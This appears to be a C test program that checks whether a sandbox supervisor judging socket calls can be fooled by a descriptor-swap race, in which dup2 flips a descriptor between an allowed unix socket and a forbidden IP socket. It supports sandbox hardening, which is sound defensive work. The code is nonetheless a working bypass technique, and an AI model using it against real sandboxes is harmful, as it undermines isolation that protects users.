/* swap: make the kernel act on another socket than the one the supervisor judged.
 *
 *   swap MODE PORT ITERATIONS
 *
 * One thread makes the call ITERATIONS times on descriptor N while a second thread
 * keeps putting another socket at N with dup2(): a unix socket (what the profile lets
 * the call do) and an IP one (what it does not). PORT is a loopback listener outside
 * the sandbox that must see nothing. MODEs:
 *   sendto-dest    sendto naming 127.0.0.1:PORT; N flips between a unix stream socket
 *                  (which ignores a destination) and an unconnected UDP socket
 *   sendmsg-dest   the same with sendmsg's msg_name
 *   sendmmsg-dest  the same with sendmmsg
 *   send-family    send(); N flips between a unix socket and a TCP socket connected to
 *                  PORT (the profile lets unix sockets send, not inet ones)
 *   recv-family    recv(); N flips between a unix socket and a TCP socket connected to
 *                  PORT, whose listener has sent "secret" (unix sockets may receive,
 *                  inet ones not); counts the receives that got it
 * Prints "done N got G": G receives of "secret" (recv-family), else 0.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static atomic_int stop, flips;
static int target, safe, unsafe;

static void *flip(void *unused) {
    (void)unused;
    for (unsigned i = 0; !atomic_load_explicit(&stop, memory_order_relaxed); i++) {
        dup2(i & 1 ? unsafe : safe, target);
        atomic_fetch_add_explicit(&flips, 1, memory_order_relaxed);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: swap MODE PORT ITERATIONS\n");
        return 2;
    }
    const char *mode = argv[1];
    int iterations = atoi(argv[3]);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int pair[2];
    if (socketpair(AF_UNIX, !strcmp(mode, "recv-family") ? SOCK_DGRAM : SOCK_STREAM, 0, pair) < 0)
        return 1;
    safe = pair[0];
    if (!strncmp(mode, "send", 4) && strcmp(mode, "send-family")) {
        unsafe = socket(AF_INET, SOCK_DGRAM, 0);
    } else {
        unsafe = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(unsafe, (struct sockaddr *)&to, sizeof to) < 0) {
            perror("connect");
            return 1;
        }
        struct pollfd secret = {unsafe, POLLIN, 0};
        if (!strcmp(mode, "recv-family") && poll(&secret, 1, 5000) != 1) {
            fprintf(stderr, "no secret came\n");  /* the race would be run for nothing */
            return 1;
        }
    }
    target = dup(safe);
    pthread_t flipper;
    pthread_create(&flipper, NULL, flip, NULL);
    while (atomic_load(&flips) < 100)  /* the race is on before the first call */
        ;
    char data[8] = "x", got[16];
    struct iovec iov = {data, 1};
    struct msghdr msg = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov, .msg_iovlen = 1};
    struct mmsghdr mmsg = {.msg_hdr = msg};
    int secrets = 0;
    for (int i = 0; i < iterations; i++) {
        if (!strcmp(mode, "sendto-dest"))
            sendto(target, data, 1, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof to);
        else if (!strcmp(mode, "sendmsg-dest"))
            sendmsg(target, &msg, MSG_DONTWAIT);
        else if (!strcmp(mode, "sendmmsg-dest"))
            sendmmsg(target, &mmsg, 1, MSG_DONTWAIT);
        else if (!strcmp(mode, "send-family"))
            send(target, data, 1, MSG_DONTWAIT);
        else {
            send(pair[1], "u", 1, MSG_DONTWAIT);  /* something for the unix side to receive */
            ssize_t n = recv(target, got, 6, MSG_DONTWAIT);
            if (n >= 6 && !memcmp(got, "secret", 6))
                secrets++;
        }
    }
    atomic_store(&stop, 1);
    pthread_join(flipper, NULL);
    printf("done %d got %d\n", iterations, secrets);
    return 0;
}
